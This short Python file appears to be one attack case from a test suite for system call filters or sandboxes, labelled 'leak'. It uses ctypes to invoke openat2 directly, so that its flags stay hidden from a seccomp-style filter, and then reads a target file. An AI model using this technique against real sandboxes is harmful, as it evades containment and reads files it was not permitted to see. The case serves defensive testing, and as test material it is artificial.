"""Opens a file with the newer call, whose flags no system call filter can see."""

# judge: leak

import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack(ground):
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    descriptor = libc.syscall(437, ctypes.c_long(-100), ground["file"].encode(), how, ctypes.c_long(len(how)))
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), "openat2")
    return os.read(descriptor, 1000)
